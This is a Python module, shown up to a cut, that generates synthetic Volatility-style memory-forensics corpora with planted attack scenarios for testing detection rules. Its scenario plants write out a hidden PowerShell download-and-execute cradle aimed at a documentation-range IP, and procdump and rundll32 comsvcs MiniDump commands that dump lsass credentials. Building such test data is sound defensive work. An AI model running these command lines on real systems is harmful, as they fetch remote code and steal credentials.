"""Seeded generation of Volatility-compatible JSON corpora.

All randomness in one corpus flows from a single ``random.Random(seed)``,
consumed in this order: process forest, scenario plants, connections
(including planted ones and the netscan subset), users, modules, registry.
Snapshot sequences continue drawing from the same generator for each churn
step.  Same config in, byte-identical files out.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Optional

from . import _io
from .anomaly import RuleConfig
from .errors import InvalidConfig
from .model import (
    PROTOCOLS,
    Connection,
    EntityKey,
    ModuleRecord,
    ProcessNode,
    RegistryEntry,
    Snapshot,
    UserRecord,
    dump_connections,
    dump_hashdump,
    dump_ldrmodules,
    dump_pstree,
    dump_registry,
    format_timestamp,
    merge_connections,
    parse_timestamp,
)

SCENARIOS = ("baseline", "credential_dump", "rundll32_process", "rundll32_child", "cmdline_ip")
CONNECTION_STATES = ("LISTENING", "ESTABLISHED", "CLOSE_WAIT", "TIME_WAIT", "CLOSED", "SYN_SENT")

# documentation ranges (RFC 5737): never real hosts
DEFAULT_BENIGN_IPS = ("192.0.2.10", "192.0.2.24", "192.0.2.51", "192.0.2.87", "192.0.2.140")
DEFAULT_MALICIOUS_IPS = ("203.0.113.66", "203.0.113.99", "198.51.100.23", "198.51.100.77")
DEFAULT_WINDOW_END = datetime(2024, 10, 20, 12, 0, 0, tzinfo=timezone.utc)

PORT_MIN, PORT_MAX = 1024, 65535
OFFSET_MIN, OFFSET_MAX = 1, 999_999_999_999_999
MAX_TREE_DEPTH = 5
IMAGE_NAME_LIMIT = 14  # EPROCESS.ImageFileName holds 15 bytes incl. NUL

NAME_WORDS = (
    "antivirus", "scanner", "updater", "backup", "syncer", "monitor", "indexer", "agent",
    "helper", "launcher", "notifier", "driver", "cloud", "media", "printer", "audio",
    "search", "telemetry", "viewer", "manager", "broker", "host", "tracker", "config",
    "licenser", "reporter", "watcher", "courier", "render", "compiler", "archiver", "cleaner",
)
INSTALL_DIRS = (
    "C:\\Program Files\\Windows",
    "C:\\Program Files\\Common Files",
    "C:\\Windows\\System32",
    "C:\\ProgramData\\Services",
    "C:\\Program Files (x86)\\Tools",
)
BENIGN_ARGS = ("", " --service", " /background", " -k netsvcs", " --silent", " /update", " --minimized")
SYSTEM_DLLS = (
    "ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "ws2_32.dll",
    "crypt32.dll", "ole32.dll", "shell32.dll", "combase.dll", "msvcrt.dll", "rpcrt4.dll",
)
REGISTRY_HIVES = (
    "\\REGISTRY\\MACHINE\\SOFTWARE",
    "\\REGISTRY\\MACHINE\\SYSTEM",
    "\\REGISTRY\\USER\\S-1-5-21-1004336348-1177238915-682003330-1001",
)
REGISTRY_KEYS = (
    "Microsoft\\Windows\\CurrentVersion\\Run",
    "Microsoft\\Windows\\CurrentVersion\\RunOnce",
    "ControlSet001\\Services",
    "Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
    "Classes\\CLSID",
)
BUILTIN_USERS = (("Administrator", 500), ("Guest", 501), ("DefaultAccount", 503), ("WDAGUtilityAccount", 504))
EMPTY_LM = "aad3b435b51404eeaad3b435b51404ee"
EMPTY_NT = "31d6cfe0d16ae931b73c59d7e0c089c0"
HOST_V4, HOST_V6 = "10.0.2.15", "fe80::a00:27ff:fe4e:66a1"

CORPUS_FILES = (
    "pstree.json", "netstat.json", "netscan.json", "hashdump.json",
    "ldrmodules.json", "registry.json", "manifest.json",
)


def _default_allowlist() -> tuple[str, ...]:
    return RuleConfig.default().rundll32_parent_allowlist


@dataclass(frozen=True)
class EmulationConfig:
    seed: int = 0
    n_processes: int = 20
    n_connections: int = 30
    benign_ips: tuple[str, ...] = DEFAULT_BENIGN_IPS
    malicious_ips: tuple[str, ...] = DEFAULT_MALICIOUS_IPS
    malicious_ratio: float = 0.0
    scenario: str = "baseline"
    out_dir: Optional[Path] = None
    n_users: int = 4
    n_modules: Optional[int] = None  # None: one module per process
    n_registry: int = 8
    port_zero_rows: int = 0
    root_ppid: int = 0
    window_end: datetime = DEFAULT_WINDOW_END
    window_hours: float = 24.0
    netscan_coverage: float = 0.62
    rundll32_parent_allowlist: tuple[str, ...] = field(default_factory=_default_allowlist)

    def __post_init__(self):
        object.__setattr__(self, "benign_ips", tuple(self.benign_ips))
        object.__setattr__(self, "malicious_ips", tuple(self.malicious_ips))
        object.__setattr__(self, "rundll32_parent_allowlist", tuple(self.rundll32_parent_allowlist))
        if self.out_dir is not None:
            object.__setattr__(self, "out_dir", Path(self.out_dir))

    def validate(self) -> None:
        if not (0 <= self.seed < 2**64):
            raise InvalidConfig(f"seed must be an unsigned 64-bit integer, got {self.seed}")
        if self.n_processes < 1:
            raise InvalidConfig("n_processes must be at least 1")
        for name in ("n_connections", "n_users", "n_registry", "port_zero_rows"):
            if getattr(self, name) < 0:
                raise InvalidConfig(f"{name} must be non-negative")
        if self.n_modules is not None and self.n_modules < 0:
            raise InvalidConfig("n_modules must be non-negative")
        if not (0.0 <= self.malicious_ratio <= 1.0):
            raise InvalidConfig("malicious_ratio must lie in [0, 1]")
        if not (0.0 <= self.netscan_coverage <= 1.0):
            raise InvalidConfig("netscan_coverage must lie in [0, 1]")
        if self.scenario not in SCENARIOS:
            raise InvalidConfig(f"unknown scenario {self.scenario!r}; choose from {', '.join(SCENARIOS)}")
        if self.window_hours <= 0:
            raise InvalidConfig("window_hours must be positive")
        if self.window_end.tzinfo is None:
            raise InvalidConfig("window_end must be timezone-aware")
        if self.n_connections > 0:
            if self.malicious_ratio < 1.0 and not self.benign_ips:
                raise InvalidConfig("benign_ips is empty but connections need benign addresses")
            if self.malicious_ratio > 0.0 and not self.malicious_ips:
                raise InvalidConfig("malicious_ips is empty but malicious_ratio > 0")
        if self.scenario == "cmdline_ip" and not self.malicious_ips:
            raise InvalidConfig("cmdline_ip scenario needs at least one malicious IP")
        if self.scenario == "rundll32_process" and not (self.benign_ips or self.malicious_ips):
            raise InvalidConfig("rundll32_process scenario needs an IP list for its planted connections")

    @property
    def effective_ratio(self) -> float:
        # a baseline corpus is planted-free by definition
        return 0.0 if self.scenario == "baseline" else self.malicious_ratio

    @property
    def window_start(self) -> datetime:
        return self.window_end - timedelta(hours=self.window_hours)


@dataclass
class ScenarioManifest:
    scenario: str
    seed: int
    planted_findings: list[tuple[str, EntityKey]] = field(default_factory=list)
    counts: dict[str, int] = field(default_factory=dict)
    label: Optional[str] = None
    captured_at: Optional[datetime] = None

    def to_json(self) -> dict:
        data = {
            "scenario": self.scenario,
            "seed": self.seed,
            "planted_findings": [{"rule_id": r, "subject": s.to_json()} for r, s in self.planted_findings],
            "counts": dict(self.counts),
        }
        if self.label is not None:
            data["label"] = self.label
        if self.captured_at is not None:
            data["captured_at"] = format_timestamp(self.captured_at)
        return data

    @classmethod
    def from_json(cls, data: dict) -> "ScenarioManifest":
        return cls(
            scenario=data["scenario"],
            seed=data["seed"],
            planted_findings=[(p["rule_id"], EntityKey.from_json(p["subject"])) for p in data["planted_findings"]],
            counts=dict(data.get("counts", {})),
            label=data.get("label"),
            captured_at=parse_timestamp(data.get("captured_at")),
        )

    @classmethod
    def load(cls, path: str | Path) -> "ScenarioManifest":
        import json

        return cls.from_json(json.loads(Path(path).read_text(encoding="utf-8")))


# ---------------------------------------------------------------------------
# mutable builders
# ---------------------------------------------------------------------------


@dataclass
class _Proc:
    pid: int
    ppid: int
    name: str
    path: str
    cmd: str
    create_time: datetime
    threads: int
    handles: int
    offset_v: int
    session_id: int
    wow64: bool
    exit_time: Optional[datetime] = None
    children: list["_Proc"] = field(default_factory=list)

    @property
    def image(self) -> str:
        return self.name[:IMAGE_NAME_LIMIT]

    @property
    def audit(self) -> str:
        return "\\Device\\HarddiskVolume3" + self.path[2:]

    def key(self) -> EntityKey:
        return EntityKey("process", (self.pid, format_timestamp(self.create_time), self.image))

    def walk(self):
        stack = [self]
        while stack:
            node = stack.pop()
            yield node
            stack.extend(reversed(node.children))

    def freeze(self) -> ProcessNode:
        return ProcessNode(
            pid=self.pid,
            ppid=self.ppid,
            image_file_name=self.image,
            audit_path=self.audit,
            cmd=self.cmd,
            path=self.path,
            create_time=self.create_time,
            exit_time=self.exit_time,
            handles=self.handles,
            offset_v=self.offset_v,
            session_id=self.session_id,
            threads=self.threads,
            wow64=self.wow64,
            children=tuple(c.freeze() for c in self.children),
        )


@dataclass
class Corpus:
    """In-memory corpus: everything one emulated snapshot directory holds."""

    cfg: EmulationConfig
    roots: list[_Proc] = field(default_factory=list)
    connections: list[Connection] = field(default_factory=list)
    users: list[UserRecord] = field(default_factory=list)
    modules: list[ModuleRecord] = field(default_factory=list)
    registry: list[RegistryEntry] = field(default_factory=list)
    planted: list[tuple[str, EntityKey]] = field(default_factory=list)
    protected: set = field(default_factory=set)
    next_pid: int = 1001

    def flat(self) -> list[_Proc]:
        return [p for r in self.roots for p in r.walk()]

    def processes(self) -> list[ProcessNode]:
        return [r.freeze() for r in self.roots]

    def netstat_rows(self) -> list[Connection]:
        return [c for c in self.connections if c.seen_by_netstat]

    def netscan_rows(self) -> list[Connection]:
        return [c for c in self.connections if c.seen_by_netscan]

    def snapshot(self, label: str = "emulated", captured_at: Optional[datetime] = None) -> Snapshot:
        netstat = [replace(c, seen_by_netscan=False) for c in self.netstat_rows()]
        netscan = [replace(c, seen_by_netstat=False) for c in self.netscan_rows()]
        return Snapshot(
            label=label,
            captured_at=captured_at,
            processes=tuple(self.processes()),
            connections=tuple(merge_connections(netstat, netscan)),
            users=tuple(self.users),
            modules=tuple(self.modules),
            registry=tuple(self.registry),
        )

    def counts(self) -> dict[str, int]:
        return {
            "processes": len(self.flat()),
            "connections": len(self.connections),
            "users": len(self.users),
            "modules": len(self.modules),
            "registry": len(self.registry),
        }

    def manifest(self, label: Optional[str] = None, captured_at: Optional[datetime] = None) -> ScenarioManifest:
        return ScenarioManifest(
            scenario=self.cfg.scenario,
            seed=self.cfg.seed,
            planted_findings=list(self.planted),
            counts=self.counts(),
            label=label,
            captured_at=captured_at,
        )

    def write(self, out_dir: str | Path, label: Optional[str] = None, captured_at: Optional[datetime] = None) -> ScenarioManifest:
        out = Path(out_dir)
        manifest = self.manifest(label, captured_at)
        _io.write_atomic(out / "pstree.json", dump_pstree(self.processes()))
        _io.write_atomic(out / "netstat.json", dump_connections(self.netstat_rows()))
        _io.write_atomic(out / "netscan.json", dump_connections(self.netscan_rows()))
        _io.write_atomic(out / "hashdump.json", dump_hashdump(self.users))
        _io.write_atomic(out / "ldrmodules.json", dump_ldrmodules(self.modules))
        _io.write_atomic(out / "registry.json", dump_registry(self.registry))
        _io.write_atomic(out / "manifest.json", _io.dumps(manifest.to_json()))
        return manifest


# ---------------------------------------------------------------------------
# primitives
# ---------------------------------------------------------------------------


def _exe_name(rng: random.Random) -> str:
    return f"{rng.choice(NAME_WORDS)}-{rng.randint(1000, 9999)}.exe"


def _time_between(rng: random.Random, start: datetime, end: datetime) -> datetime:
    span = max(int((end - start).total_seconds()), 0)
    return start + timedelta(seconds=rng.randint(0, span))


def _new_proc(
    rng: random.Random,
    pid: int,
    ppid: int,
    created: datetime,
    name: Optional[str] = None,
    path: Optional[str] = None,
    cmd: Optional[str] = None,
) -> _Proc:
    name = name or _exe_name(rng)
    if path is None:
        path = f"{rng.choice(INSTALL_DIRS)}\\{name}"
    if cmd is None:
        cmd = f'"{path}"{rng.choice(BENIGN_ARGS)}'
    return _Proc(
        pid=pid,
        ppid=ppid,
        name=name,
        path=path,
        cmd=cmd,
        create_time=created,
        threads=rng.randint(1, 64),
        handles=rng.randint(40, 2400),
        offset_v=rng.randint(OFFSET_MIN, OFFSET_MAX),
        session_id=rng.choice((0, 1)),
        wow64=rng.random() < 0.1,
    )


def _attach(corpus: Corpus, node: _Proc, parent: Optional[_Proc]) -> _Proc:
    if parent is None:
        corpus.roots.append(node)
    else:
        parent.children.append(node)
    return node


def _spawn(
    rng: random.Random,
    corpus: Corpus,
    parent: Optional[_Proc],
    name: Optional[str] = None,
    path: Optional[str] = None,
    cmd: Optional[str] = None,
) -> _Proc:
    cfg = corpus.cfg
    start = parent.create_time if parent is not None else cfg.window_start
    created = _time_between(rng, start, cfg.window_end)
    pid = corpus.next_pid
    corpus.next_pid += 1
    ppid = parent.pid if parent is not None else cfg.root_ppid
    return _attach(corpus, _new_proc(rng, pid, ppid, created, name, path, cmd), parent)


def _gen_forest(rng: random.Random, corpus: Corpus, n: int) -> None:
    """Pre-order generation: pids are sequential from ``corpus.next_pid``."""
    cfg = corpus.cfg
    midpoint = cfg.window_start + (cfg.window_end - cfg.window_start) / 2
    stack: list[_Proc] = []
    for _ in range(n):
        if stack:
            r = rng.random()
            if r < 0.2:
                stack.clear()
            elif r < 0.6:
                stack.pop()
        if len(stack) >= MAX_TREE_DEPTH:
            stack.pop()
        parent = stack[-1] if stack else None
        if parent is None:
            created = _time_between(rng, cfg.window_start, midpoint)
        else:
            created = _time_between(rng, parent.create_time, cfg.window_end)
        pid = corpus.next_pid
        corpus.next_pid += 1
        ppid = parent.pid if parent is not None else cfg.root_ppid
        node = _attach(corpus, _new_proc(rng, pid, ppid, created), parent)
        stack.append(node)


def _local_addr(proto: str) -> str:
    return HOST_V6 if proto.endswith("v6") else HOST_V4


def _make_connection(
    rng: random.Random, corpus: Corpus, owner: _Proc, foreign: str, keys: set, *, netscan: Optional[bool] = None
) -> Connection:
    cfg = corpus.cfg
    proto = rng.choice(PROTOCOLS)
    while True:
        local_port = rng.randint(PORT_MIN, PORT_MAX)
        foreign_port = rng.randint(PORT_MIN, PORT_MAX)
        key = (proto, _local_addr(proto), local_port, foreign, foreign_port, owner.pid)
        if key not in keys:
            keys.add(key)
            break
    in_netscan = rng.random() < cfg.netscan_coverage if netscan is None else netscan
    return Connection(
        proto=proto,
        local_addr=_local_addr(proto),
        local_port=local_port,
        foreign_addr=foreign,
        foreign_port=foreign_port,
        state=rng.choice(CONNECTION_STATES),
        pid=owner.pid,
        owner=owner.image,
        created=_time_between(rng, owner.create_time, cfg.window_end),
        offset=rng.randint(OFFSET_MIN, OFFSET_MAX),
        seen_by_netstat=True,
        seen_by_netscan=in_netscan,
    )


def _gen_connections(rng: random.Random, corpus: Corpus, count: int, ratio: Optional[float] = None) -> None:
    cfg = corpus.cfg
    procs = corpus.flat()
    if count > 0 and not procs:
        raise InvalidConfig("connections need at least one process to own them")
    ratio = cfg.effective_ratio if ratio is None else ratio
    keys = {_conn_key(c) for c in corpus.connections}
    for _ in range(count):
        owner = rng.choice(procs)
        malicious = ratio > 0.0 and rng.random() < ratio
        foreign = rng.choice(cfg.malicious_ips if malicious else cfg.benign_ips)
        conn = _make_connection(rng, corpus, owner, foreign, keys)
        corpus.connections.append(conn)
        if malicious:
            corpus.planted.append(("MALICIOUS_IP", EntityKey.of("connections", conn)))


def _conn_key(c: Connection) -> tuple:
    return (c.proto, c.local_addr, c.local_port, c.foreign_addr, c.foreign_port, c.pid)


def _gen_port_zero(rng: random.Random, corpus: Corpus, count: int) -> None:
    """UDP rows on port 0 that only the memory-scanning plugin reports."""
    procs = corpus.flat()
    keys = {_conn_key(c) for c in corpus.connections}
    # each (owner, proto) pair yields one distinct key
    count = min(count, 2 * len(procs))
    added = 0
    while added < count:
        owner = rng.choice(procs)
        proto = rng.choice(("UDPv4", "UDPv6"))
        local = "0.0.0.0" if proto == "UDPv4" else "::"
        conn = Connection(
            proto=proto,
            local_addr=local,
            local_port=0,
            foreign_addr="*",
            foreign_port=0,
            state=None,
            pid=owner.pid,
            owner=owner.image,
            created=_time_between(rng, owner.create_time, corpus.cfg.window_end),
            offset=rng.randint(OFFSET_MIN, OFFSET_MAX),
            seen_by_netstat=False,
            seen_by_netscan=True,
        )
        if _conn_key(conn) in keys:
            continue
        keys.add(_conn_key(conn))
        added += 1
        corpus.connections.append(conn)
        corpus.planted.append(("PORT_ZERO", EntityKey.of("connections", conn)))


def _nt_hash(rng: random.Random) -> str:
    return f"{rng.getrandbits(128):032x}"


def _gen_users(rng: random.Random, corpus: Corpus, count: int) -> None:
    rids = {u.rid for u in corpus.users}
    next_rid = max([1000, *rids]) + 1
    for i in range(count):
        if i < len(BUILTIN_USERS) and BUILTIN_USERS[i][1] not in rids:
            name, rid = BUILTIN_USERS[i]
            nthash = _nt_hash(rng) if rid == 500 else EMPTY_NT
        else:
            name, rid = f"{rng.choice(NAME_WORDS)}.user{next_rid}", next_rid
            next_rid += 1
            nthash = _nt_hash(rng)
        rids.add(rid)
        corpus.users.append(UserRecord(user=name, rid=rid, lmhash=EMPTY_LM, nthash=nthash))


def _gen_modules(rng: random.Random, corpus: Corpus, count: int) -> None:
    procs = corpus.flat()
    if count and not procs:
        raise InvalidConfig("modules need at least one process")
    keys = {(m.pid, m.mapped_path, m.base) for m in corpus.modules}
    for _ in range(count):
        owner = rng.choice(procs)
        dll = rng.choice(SYSTEM_DLLS)
        mapped = f"\\Windows\\System32\\{dll}"
        while True:
            base = 0x7FF800000000 + rng.randrange(0, 0x100000) * 0x10000
            if (owner.pid, mapped, base) not in keys:
                keys.add((owner.pid, mapped, base))
                break
        corpus.modules.append(
            ModuleRecord(
                pid=owner.pid,
                process=owner.image,
                base=base,
                mapped_path=mapped,
                in_load=True,
                in_init=rng.random() >= 0.1,
                in_mem=True,
            )
        )


def _gen_registry(rng: random.Random, corpus: Corpus, count: int) -> None:
    cfg = corpus.cfg
    keys = {(r.hive, r.key_path, r.value_name) for r in corpus.registry}
    for _ in range(count):
        while True:
            hive = rng.choice(REGISTRY_HIVES)
            key_path = rng.choice(REGISTRY_KEYS)
            value_name = f"{rng.choice(NAME_WORDS)}-{rng.randint(1000, 9999)}"
            if (hive, key_path, value_name) not in keys:
                keys.add((hive, key_path, value_name))
                break
        corpus.registry.append(
            RegistryEntry(
                hive=hive,
                key_path=key_path,
                value_name=value_name,
                value_data=f"{rng.choice(INSTALL_DIRS)}\\{value_name}.exe",
                last_write=_time_between(rng, cfg.window_start, cfg.window_end),
            )
        )


# ---------------------------------------------------------------------------
# scenario plants (detection rules run backwards)
# ---------------------------------------------------------------------------


def _protect(corpus: Corpus, *keys: EntityKey) -> None:
    corpus.protected.update(keys)


def _plant_credential_dump(rng: random.Random, corpus: Corpus) -> None:
    wininit = _spawn(rng, corpus, None, "wininit.exe", "C:\\Windows\\System32\\wininit.exe", "wininit.exe")
    lsass = _spawn(rng, corpus, wininit, "lsass.exe", "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe")
    shell = _spawn(rng, corpus, None, "cmd.exe", "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe"')
    dumper = _spawn(
        rng, corpus, shell, "procdump.exe", "C:\\Users\\Public\\Tools\\procdump.exe", "procdump -ma lsass.exe lsass_dump"
    )
    corpus.planted.append(("CRED_DUMP", dumper.key()))
    _protect(corpus, wininit.key(), lsass.key(), shell.key(), dumper.key())
    if rng.random() < 0.5:
        dump_file = f"C:\\Windows\\Temp\\{rng.choice(NAME_WORDS)}.dmp"
        proxy = _spawn(
            rng,
            corpus,
            shell,
            "rundll32.exe",
            "C:\\Windows\\System32\\rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump_file} full",
        )
        corpus.planted.append(("CRED_DUMP", proxy.key()))
        _protect(corpus, proxy.key())


def _plant_rundll32_process(rng: random.Random, corpus: Corpus, keys: set) -> None:
    cfg = corpus.cfg
    explorer = _spawn(rng, corpus, None, "explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
    bare_cmd = rng.choice(
        ("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", '"C:\\Windows\\System32\\rundll32.exe"')
    )
    proxy = _spawn(rng, corpus, explorer, "rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", bare_cmd)
    behaviour = rng.choice(("connections", "children", "both"))
    _protect(corpus, explorer.key(), proxy.key())
    if behaviour in ("connections", "both"):
        for _ in range(rng.randint(1, 3)):
            pool = cfg.benign_ips or cfg.malicious_ips
            conn = _make_connection(rng, corpus, proxy, rng.choice(pool), keys)
            corpus.connections.append(conn)
            _protect(corpus, EntityKey.of("connections", conn))
            if not cfg.benign_ips:
                corpus.planted.append(("MALICIOUS_IP", EntityKey.of("connections", conn)))
    if behaviour in ("children", "both"):
        for _ in range(rng.randint(1, 2)):
            child = _spawn(rng, corpus, proxy)
            _protect(corpus, child.key())
    corpus.planted.append(("RUNDLL32_NO_ARGS", proxy.key()))


def _plant_rundll32_child(rng: random.Random, corpus: Corpus) -> None:
    allow = set(corpus.cfg.rundll32_parent_allowlist)
    candidates = [p for p in corpus.flat() if p.image.lower() not in allow]
    if candidates and rng.random() < 0.5:
        parent = rng.choice(candidates)
    else:
        parent = _spawn(
            rng,
            corpus,
            None,
            "WINWORD.EXE",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n',
        )
    assert parent.image.lower() not in allow
    args = rng.choice(
        (
            "shell32.dll,Control_RunDLL",
            f"C:\\Users\\Public\\{rng.choice(NAME_WORDS)}.dll,DllRegisterServer",
            "url.dll,OpenURL",
        )
    )
    proxy = _spawn(rng, corpus, parent, "rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", f"rundll32.exe {args}")
    corpus.planted.append(("RUNDLL32_BAD_PARENT", proxy.key()))
    _protect(corpus, parent.key(), proxy.key())


def _plant_cmdline_ip(rng: random.Random, corpus: Corpus) -> None:
    cfg = corpus.cfg
    for _ in range(rng.randint(1, 3)):
        ip = rng.choice(cfg.malicious_ips)
        port = rng.randint(PORT_MIN, PORT_MAX)
        style = rng.randrange(3)
        procs = corpus.flat()
        parent = rng.choice(procs) if procs and rng.random() < 0.5 else None
        if style == 0:
            node = _spawn(
                rng,
                corpus,
                parent,
                "powershell.exe",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{ip}:{port}/a.ps1')\"",
            )
        elif style == 1:
            name = _exe_name(rng)
            path = f"C:\\Users\\Public\\{name}"
            node = _spawn(rng, corpus, parent, name, path, f'"{path}" --connect {ip}:{port}')
        else:
            node = _spawn(
                rng, corpus, parent, "cmd.exe", "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c ping -n 1 {ip}"
            )
        corpus.planted.append(("CMDLINE_IP", node.key()))
        _protect(corpus, node.key())


# ---------------------------------------------------------------------------
# public operations
# ---------------------------------------------------------------------------


def _build(cfg: EmulationConfig, rng: random.Random, n_processes: Optional[int] = None) -> Corpus:
    cfg.validate()
    corpus = Corpus(cfg=cfg)
    _gen_forest(rng, corpus, n_processes if n_processes is not None else cfg.n_processes)
    keys: set = set()
    if cfg.scenario == "credential_dump":
        _plant_credential_dump(rng, corpus)
    elif cfg.scenario == "rundll32_child":
        _plant_rundll32_child(rng, corpus)
    elif cfg.scenario == "cmdline_ip":
        _plant_cmdline_ip(rng, corpus)
    elif cfg.scenario == "rundll32_process":
        _plant_rundll32_process(rng, corpus, keys)
    _gen_connections(rng, corpus, cfg.n_connections)
    if cfg.scenario != "baseline":
        _gen_port_zero(rng, corpus, cfg.port_zero_rows)
    n_procs = len(corpus.flat())
    _gen_users(rng, corpus, cfg.n_users)
    _gen_modules(rng, corpus, n_procs if cfg.n_modules is None else cfg.n_modules)
    _gen_registry(rng, corpus, cfg.n_registry)
    return corpus


def generate_corpus(cfg: EmulationConfig) -> Corpus:
    """Build a full corpus in memory without touching the filesystem."""
    return _build(cfg, random.Random(cfg.seed))


def emulate_pstree(cfg: EmulationConfig) -> list[ProcessNode]:
    """The baseline process forest for ``cfg`` (first stage of every corpus)."""
    cfg.validate()
    corpus = Corpus(cfg=cfg)
    _gen_forest(random.Random(cfg.seed), corpus, cfg.n_processes)
    return corpus.processes()


def _thaw(node: ProcessNode) -> _Proc:
    return _Proc(
        pid=node.pid,
        ppid=node.ppid,
        name=node.image_file_name,
        path=node.path or f"C:\\{node.image_file_name}",
        cmd=node.cmd or "",
        create_time=node.create_time or DEFAULT_WINDOW_END,
        threads=node.threads,
        handles=node.handles or 0,
        offset_v=node.offset_v,
        session_id=node.session_id or 0,
        wow64=node.wow64,
        exit_time=node.exit_time,
        children=[_thaw(c) for c in node.children],
    )


def emulate_netstat(cfg: EmulationConfig, procs: list[ProcessNode]) -> list[Connection]:
    """Connections owned by ``procs``, drawn from a generator seeded with ``cfg.seed``.

    Inside a full corpus the same routine runs on the shared generator, so
    the rows differ from a standalone call with the same seed.
    """
    cfg.validate()
    if cfg.n_connections == 0:
        return []
    if not procs:
        raise InvalidConfig("procs must be non-empty when n_connections > 0")
    corpus = Corpus(cfg=cfg, roots=[_thaw(p) for p in procs])
    _gen_connections(random.Random(cfg.seed), corpus, cfg.n_connections, cfg.malicious_ratio)
    return [replace(c, seen_by_netscan=False) for c in corpus.connections]


def emulate_scenario(cfg: EmulationConfig) -> ScenarioManifest:
    """Write a corpus (six plugin files + manifest.json) to ``cfg.out_dir``."""
    if cfg.out_dir is None:
        raise InvalidConfig("out_dir is required")
    return generate_corpus(cfg).write(cfg.out_dir)


def benchmark_corpus(n: int, seed: int, **overrides) -> Corpus:
    if n < 1:
        raise InvalidConfig("benchmark scale n must be >= 1")
    rng = random.Random(seed)
    n_processes = rng.randint(n, (3 * n) // 2)
    cfg = EmulationConfig(
        seed=seed,
        n_processes=n_processes,
        n_connections=2 * n,
        n_users=n,
        n_modules=n,
        n_registry=n,
        scenario="baseline",
        **overrides,
    )
    return _build(cfg, rng)


def emulate_benchmark(n: int, seed: int, out_dir: str | Path) -> ScenarioManifest:
    """Benchmark corpus: processes in [n, 1.5n], 2n connections, n users/modules/registry."""
    return benchmark_corpus(n, seed).write(out_dir)


# ---------------------------------------------------------------------------
# snapshot sequences
# ---------------------------------------------------------------------------


def _churn_count(churn: float, size: int) -> int:
    return int(round(churn * size))


def _pick(rng: random.Random, pool: list, k: int) -> list:
    return rng.sample(pool, min(k, len(pool)))


def _churn_processes(rng: random.Random, corpus: Corpus, m: int) -> None:
    flat = corpus.flat()
    parent_of = {id(c): p for p in flat for c in p.children}
    leaves = [p for p in flat if not p.children and p.key() not in corpus.protected]
    victims = _pick(rng, leaves, m)
    gone = {id(v) for v in victims}
    for parent in {id(parent_of.get(id(v))): parent_of.get(id(v)) for v in victims}.values():
        if parent is None:
            corpus.roots = [r for r in corpus.roots if id(r) not in gone]
        else:
            parent.children = [c for c in parent.children if id(c) not in gone]
    dead_pids = {v.pid for v in victims}
    corpus.connections = [c for c in corpus.connections if c.pid not in dead_pids]
    corpus.modules = [mod for mod in corpus.modules if mod.pid not in dead_pids]
    survivors = [p for p in corpus.flat() if p.key() not in corpus.protected]
    for p in _pick(rng, survivors, m):
        p.threads = rng.choice([t for t in range(1, 65) if t != p.threads])
        p.handles = p.handles + rng.randint(1, 500)
    pool = corpus.flat()
    for _ in range(m):
        parent = rng.choice(pool) if pool and rng.random() < 0.7 else None
        if parent is not None and _depth(parent, parent_of) >= MAX_TREE_DEPTH - 1:
            parent = None
        node = _spawn(rng, corpus, parent)
        parent_of[id(node)] = parent


def _depth(node: _Proc, parent_of: dict) -> int:
    d = 0
    while (node := parent_of.get(id(node))) is not None:
        d += 1
    return d


def _churn_connections(rng: random.Random, corpus: Corpus, m: int) -> None:
    cfg = corpus.cfg
    removable = [i for i, c in enumerate(corpus.connections) if EntityKey.of("connections", c) not in corpus.protected]
    drop = set(_pick(rng, removable, m))
    corpus.connections = [c for i, c in enumerate(corpus.connections) if i not in drop]
    mutable = [i for i, c in enumerate(corpus.connections) if EntityKey.of("connections", c) not in corpus.protected]
    for i in _pick(rng, mutable, m):
        c = corpus.connections[i]
        state = rng.choice([s for s in CONNECTION_STATES if s != c.state])
        corpus.connections[i] = replace(c, state=state)
    procs = corpus.flat()
    keys = {_conn_key(c) for c in corpus.connections}
    for _ in range(m if procs and cfg.benign_ips else 0):
        owner = rng.choice(procs)
        corpus.connections.append(_make_connection(rng, corpus, owner, rng.choice(cfg.benign_ips), keys))


def _churn_users(rng: random.Random, corpus: Corpus, m: int) -> None:
    drop = set(_pick(rng, range(len(corpus.users)), m))
    corpus.users = [u for i, u in enumerate(corpus.users) if i not in drop]
    for i in _pick(rng, range(len(corpus.users)), m):
        corpus.users[i] = replace(corpus.users[i], nthash=_nt_hash(rng))
    _gen_users(rng, corpus, 0)
    next_rid = max([1000, *(u.rid for u in corpus.users)]) + 1
    for j in range(m):
        rid = next_rid + j
        corpus.users.append(UserRecord(f"{rng.choice(NAME_WORDS)}.user{rid}", rid, EMPTY_LM, _nt_hash(rng)))


_FLAG_COMBOS = tuple(
    (a, b, c) for a in (True, False) for b in (True, False) for c in (True, False) if a or b or c
)


def _churn_modules(rng: random.Random, corpus: Corpus, m: int) -> None:
    drop = set(_pick(rng, range(len(corpus.modules)), m))
    corpus.modules = [mod for i, mod in enumerate(corpus.modules) if i not in drop]
    for i in _pick(rng, range(len(corpus.modules)), m):
        mod = corpus.modules[i]
        current = (mod.in_load, mod.in_init, mod.in_mem)
        flags = rng.choice([f for f in _FLAG_COMBOS if f != current])
        corpus.modules[i] = replace(mod, in_load=flags[0], in_init=flags[1], in_mem=flags[2])
    if corpus.flat():
        _gen_modules(rng, corpus, m)


def _churn_registry(rng: random.Random, corpus: Corpus, m: int) -> None:
    cfg = corpus.cfg
    drop = set(_pick(rng, range(len(corpus.registry)), m))
    corpus.registry = [r for i, r in enumerate(corpus.registry) if i not in drop]
    for i in _pick(rng, range(len(corpus.registry)), m):
        r = corpus.registry[i]
